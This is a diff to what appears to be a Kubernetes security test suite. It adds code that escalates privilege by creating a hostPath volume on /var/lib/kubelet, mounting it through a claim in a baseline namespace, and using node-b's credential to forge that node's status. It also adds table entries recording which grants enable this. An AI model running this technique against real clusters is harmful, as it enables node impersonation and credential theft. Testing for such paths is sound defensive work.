@@ -205,6 +205,87 @@ const relabeller = (verbs: string) =>
   `${podCreator(RELABEL)}---
 ${role(`namespace-${verbs.replace(/\W+/g, '-')}`, `[{apiGroups: [""], resources: [namespaces], verbs: [${verbs}], resourceNames: [${RELABEL}]}]`)}`;
 
+/**
+ * A hostPath PersistentVolume pre-bound to a claim in the baseline namespace,
+ * both created with the reporter's token; once kube-controller-manager binds
+ * them, a plain pod there mounts the claim (Pod Security checks the pod's own
+ * volumes, and a claim passes at every level) and kwok runs it on node-b,
+ * whose credential then writes node-b's status. All three go again afterwards.
+ */
+async function hostPathVolumeAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
+  const name = `host-${Date.now()}`;
+  try {
+    const volume = await apiRequest(cluster, {
+      method: 'POST',
+      path: '/api/v1/persistentvolumes',
+      token,
+      body: {
+        apiVersion: 'v1',
+        kind: 'PersistentVolume',
+        metadata: { name },
+        spec: {
+          capacity: { storage: '1Gi' },
+          accessModes: ['ReadWriteOnce'],
+          storageClassName: '',
+          hostPath: { path: '/var/lib/kubelet' },
+          claimRef: { namespace: BASELINE, name },
+        },
+      },
+    });
+    if (volume.status !== 201) return volume;
+    const claim = await apiRequest(cluster, {
+      method: 'POST',
+      path: `/api/v1/namespaces/${BASELINE}/persistentvolumeclaims`,
+      token,
+      body: {
+        apiVersion: 'v1',
+        kind: 'PersistentVolumeClaim',
+        metadata: { name },
+        spec: { accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName: name, resources: { requests: { storage: '1Gi' } } },
+      },
+    });
+    if (claim.status !== 201) return claim;
+    const bound = await poll(60, async () => {
+      const read = await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${BASELINE}/persistentvolumeclaims/${name}` });
+      return (read.body as { status?: { phase?: string } }).status?.phase === 'Bound' ? true : null;
+    });
+    if (!bound) return outcome(false, 'kube-controller-manager never bound the claim to the hostPath volume');
+    const pod = await apiRequest(cluster, {
+      method: 'POST',
+      path: `/api/v1/namespaces/${BASELINE}/pods`,
+      token,
+      body: {
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { name },
+        spec: {
+          nodeName: TARGET,
+          tolerations: [{ operator: 'Exists' }],
+          containers: [
+            { name: 'c', image: 'registry.k8s.io/pause:3.10', volumeMounts: [{ name: 'host', mountPath: '/host/var/lib/kubelet' }] },
+          ],
+          volumes: [{ name: 'host', persistentVolumeClaim: { claimName: name } }],
+        },
+      },
+    });
+    if (pod.status !== 201) return pod;
+    const running = await poll(30, async () => {
+      const read = await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${BASELINE}/pods/${name}` });
+      return (read.body as { status?: { phase?: string } }).status?.phase === 'Running' ? true : null;
+    });
+    if (!running) return outcome(false, 'the pod never ran');
+    return await forgeStatus(cluster, '', undefined, nodeB);
+  } finally {
+    await cluster.kubectl(['-n', BASELINE, 'delete', 'pod,persistentvolumeclaim', name, '--ignore-not-found', '--wait=false']);
+    await cluster.kubectl(['delete', 'persistentvolume', name, '--ignore-not-found', '--wait=false']);
+  }
+}
+
+const volumeClaimer = (withVolumes: boolean) =>
+  `${podCreator(BASELINE)}---\n${role(`claims-${BASELINE}`, '[{apiGroups: [""], resources: [persistentvolumeclaims], verbs: [create]}]', undefined, BASELINE)}${
+    withVolumes ? `---\n${role('volume-creator', '[{apiGroups: [""], resources: [persistentvolumes], verbs: [create]}]')}` : ''
+  }`;
+
 /** A kubeadm cluster's join token, and kubeadm's bindings of its group: ask for a kubelet certificate, auto-approved for nodeclient. */
 const BOOTSTRAP = { id: 'abcdef', secret: '0123456789abcdef', group: 'system:bootstrappers:kubeadm:default-node-token' };
 const KUBEADM_BOOTSTRAP = `apiVersion: v1
@@ -447,6 +528,21 @@ const attacks: [Attack, Attack][] = [
       grants: relabeller('get'),
       run: relabelAndPrivilegedPod,
       capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "a hostPath PersistentVolume claimed in a baseline namespace, mounted by a pod on node-b: node-b's identity",
+      grants: volumeClaimer(true),
+      run: hostPathVolumeAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      name: 'the same claim and pod, without create on persistentvolumes',
+      grants: volumeClaimer(false),
+      run: hostPathVolumeAndForge,
+      capability: 'forge-other-node-conditions',
+      unassessed: 'creating a PersistentVolumeClaim is walked by no class',
     },
   ],
   [
